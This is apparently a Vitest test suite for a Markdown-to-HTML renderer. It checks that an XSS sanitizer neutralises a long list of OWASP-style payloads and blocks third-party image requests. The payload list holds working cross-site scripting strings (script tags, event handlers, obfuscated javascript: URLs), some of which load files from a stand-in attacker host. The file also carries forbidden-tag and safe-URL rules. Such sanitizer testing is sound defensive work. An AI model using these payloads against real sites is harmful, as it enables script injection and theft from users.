import { beforeAll, describe, expect, it } from "vitest";
import { excerptFromMarkdown, initRenderer, renderMarkdown } from "./render";

beforeAll(() => initRenderer());

// Payloads in the style of the OWASP XSS filter evasion cheat sheet, as a post author could type
// them into the Markdown body.
const PAYLOADS: string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<img src=`javascript:alert(1)`>",
  '<img """><script>alert("XSS")</script>">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  '<div style="background:url(javascript:alert(1))">styled</div>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<p style="color:red" onclick="alert(1)">click</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<a href="javascript:alert(1)">link</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab-split scheme</a>',
  '<a href="jav&#x0A;ascript:alert(1)">newline-split scheme</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal entities</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  '[x](https://example.test "title" onmouseover="alert(1)")',
  "![x](javascript:alert(1))",
  '![x](x" onerror="alert(1))',
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "<javascript:alert(1)>",
  '<http://example.test/"onmouseover="alert(1)>',
  "[ref]\n\n[ref]: javascript:alert(1)",
  '[ref][r]\n\n[r]: https://example.test "x" onclick="alert(1)"',
  "<!-- --><script>alert(1)</script><!-- -->",
  "<!--<img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)>",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus="alert(1)">',
  '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<a href="https://example.test" target="_blank" rel="opener">opener</a>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "`<script>alert(1)</script>` and\n\n```html\n<script>alert(1)</script>\n```",
  '<a id="x" name="y" href="#">clobbering</a>',
];

const FORBIDDEN_TAGS = new Set([
  "script",
  "style",
  "iframe",
  "object",
  "embed",
  "svg",
  "math",
  "form",
  "button",
  "base",
  "meta",
  "link",
  "body",
  "frame",
  "frameset",
  "template",
  "textarea",
  "select",
]);
const SAFE_URL = /^(https?:|mailto:|[^:]*$)/i;

interface Tag {
  name: string;
  attributes: Record<string, string>;
}

function decodeAttribute(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&");
}

/**
 * Reads the sanitizer's output strictly: every `<` must open a well-formed tag with quoted
 * attributes (text and attribute values are escaped by the sanitizer), or the output fails.
 */
function parseTags(html: string): Tag[] {
  const tags: Tag[] = [];
  const TAG = /<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z][a-z0-9-]*(?:="[^"<>]*")?)*)\s*\/?>/gi;
  const rest = html.replace(TAG, (_, closing: string, name: string, attributes: string) => {
    if (closing) return "";
    const parsed: Record<string, string> = {};
    for (const [, key, value] of attributes.matchAll(/\s+([a-z][a-z0-9-]*)(?:="([^"]*)")?/gi)) parsed[key!.toLowerCase()] = decodeAttribute(value ?? "");
    tags.push({ name: name.toLowerCase(), attributes: parsed });
    return "";
  });
  expect(rest, "text outside tags holds no raw angle bracket").not.toMatch(/[<>]/);
  return tags;
}

function expectSafe(html: string): void {
  for (const tag of parseTags(html)) {
    expect(FORBIDDEN_TAGS.has(tag.name), `<${tag.name}> in ${html}`).toBe(false);
    for (const [name, value] of Object.entries(tag.attributes)) {
      expect(name.startsWith("on"), `${name} on <${tag.name}> in ${html}`).toBe(false);
      expect(["style", "id", "name", "srcdoc", "background", "formaction", "action"].includes(name), `${name} in ${html}`).toBe(false);
      if (name === "href" || name === "src") {
        const url = value.replace(/[\u0000-\u0020]/g, "");
        expect(url, `${name} of <${tag.name}> in ${html}`).toMatch(SAFE_URL);
      }
    }
    if (tag.name === "img" && tag.attributes.src) expect(tag.attributes.src).not.toMatch(/^data:/i);
    if (tag.name === "a") expect(tag.attributes.rel).toBe("noopener noreferrer nofollow");
    if (tag.name === "input") expect(tag.attributes).toEqual(expect.objectContaining({ type: "checkbox", disabled: "" }));
  }
}

describe("renderMarkdown: hostile input", () => {
  it("has a long list of payloads", () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(25);
  });

  it.each(PAYLOADS)("neutralises %s", (payload) => {
    const html = renderMarkdown(payload);
    expectSafe(html);
  });

  it("also neutralises the payloads embedded in ordinary Markdown", () => {
    const html = renderMarkdown(`# Title\n\nSome *text* before.\n\n${PAYLOADS.join("\n\n")}`);
    expectSafe(html);
    expect(html).toContain("<h1>Title</h1>\n<p>Some <em>text</em> before.</p>");
  });

  it("keeps code samples as text", () => {
    const html = renderMarkdown("Inline `<script>alert(1)</script>`\n\n```html\n<img src=x onerror=alert(1)>\n```");
    expect(html).toContain("<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>");
    expect(html).toContain('<pre><code class="language-html">&lt;img src=x onerror=alert(1)&gt;');
  });

  it("drops a data: image and an off-list code class", () => {
    expect(renderMarkdown("![x](data:image/png;base64,AAAA)")).not.toContain("data:");
    expect(renderMarkdown('<code class="x language-js evil">a</code>')).toBe('<p><code class="language-js">a</code></p>\n');
  });
});

describe("renderMarkdown: ordinary Markdown", () => {
  it("renders headings, emphasis, lists, quotes, code, rules and tables", () => {
    const html = renderMarkdown(
      [
        "## Heading",
        "Some **bold**, *italic*, ~~struck~~ and `code`.",
        "- one\n- two",
        "1. first\n2. second",
        "> quoted",
        "```ts\nconst x = 1;\n```",
        "---",
        "| a | b |\n|:--|--:|\n| 1 | 2 |",
      ].join("\n\n"),
    );
    expect(html).toContain("<h2>Heading</h2>");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<em>italic</em>");
    expect(html).toContain("<del>struck</del>");
    expect(html).toContain("<code>code</code>");
    expect(html).toMatch(/<ul>\s*<li>one<\/li>\s*<li>two<\/li>\s*<\/ul>/);
    expect(html).toMatch(/<ol>\s*<li>first<\/li>/);
    expect(html).toMatch(/<blockquote>\s*<p>quoted<\/p>\s*<\/blockquote>/);
    expect(html).toContain('<pre><code class="language-ts">const x = 1;');
    expect(html).toContain("<hr />");
    expect(html).toMatch(/<table>[\s\S]*<th align="left">a<\/th>[\s\S]*<td align="right">2<\/td>[\s\S]*<\/table>/);
    expectSafe(html);
  });

  it("renders links, autolinks and reference links with a safe rel", () => {
    const html = renderMarkdown(
      '[docs](https://example.test/docs "Docs"), <https://example.test/a>, www.example.test, [ref][r], [mail](mailto:a@example.test)\n\n[r]: /dashboard/acme/posts',
    );
    expect(html).toContain('<a href="https://example.test/docs" title="Docs" rel="noopener noreferrer nofollow">docs</a>');
    expect(html).toContain('<a href="https://example.test/a" rel="noopener noreferrer nofollow">https://example.test/a</a>');
    expect(html).toContain('<a href="http://www.example.test" rel="noopener noreferrer nofollow">www.example.test</a>');
    expect(html).toContain('<a href="/dashboard/acme/posts" rel="noopener noreferrer nofollow">ref</a>');
    expect(html).toContain('<a href="mailto:a@example.test" rel="noopener noreferrer nofollow">mail</a>');
  });

  it("renders images from this site and trusted hosts, and task lists", () => {
    const html = renderMarkdown("![A chart](https://example.test/chart.png) ![Logo](/logo.png)\n\n- [ ] todo\n- [x] done", {
      CONTENT_IMAGE_HOSTS: "cdn.example.test, example.test",
    });
    expect(html).toContain('<img src="https://example.test/chart.png" alt="A chart" />');
    expect(html).toContain('<img src="/logo.png" alt="Logo" />');
    expect(html).toMatch(/<li><input type="checkbox" disabled \/>\s?todo<\/li>/);
    expect(html).toMatch(/<li><input type="checkbox" disabled checked \/>\s?done<\/li>/);
  });
});

describe("renderMarkdown: no third-party requests from content", () => {
  it.each([
    "![pixel](https://tracker.example/p.png)",
    '<img src="https://tracker.example/p.png">',
    "![pixel](//tracker.example/p.png)",
    "![pixel](http://example.test.tracker.example/p.png)",
    '<img alt="pixel" src="\\\\tracker.example\\p.png">',
    '<img alt="pixel" src="/\t/tracker.example/p.png">',
  ])("turns an image from another host into a link: %s", (source) => {
    const html = renderMarkdown(source, { CONTENT_IMAGE_HOSTS: "example.test" });
    expect(html).not.toContain("<img");
    if (source.startsWith("![") && !source.includes("//tracker.example"))
      expect(html).toMatch(
        /<a href="https?:\/\/[^"]*tracker\.example\/p\.png" rel="noopener noreferrer nofollow" title="Image on another site">Image: pixel<\/a>/,
      );
    expectSafe(html);
  });

  it("trusts no host by default", () => {
    expect(renderMarkdown("![A chart](https://example.test/chart.png)", {})).not.toContain("<img");
  });
});

describe("excerptFromMarkdown", () => {
  it("is the plain text of the start of the post", () => {
    expect(excerptFromMarkdown("## What you will find\n\n- Release **notes**\n- How-to [guides](https://example.test)\n\nA & B < C")).toBe(
      "What you will find Release notes How-to guides A & B < C",
    );
  });

  it("cuts long text at a word, about 160 characters", () => {
    const excerpt = excerptFromMarkdown("word ".repeat(100));
    expect(excerpt.length).toBeLessThanOrEqual(160);
    expect(excerpt.length).toBeGreaterThan(140);
    expect(excerpt.endsWith("word…")).toBe(true);
  });

  it("leaves out markup and scripts", () => {
    expect(excerptFromMarkdown("<script>alert(1)</script>Hello <b>there</b>")).toBe("Hello there");
  });
});
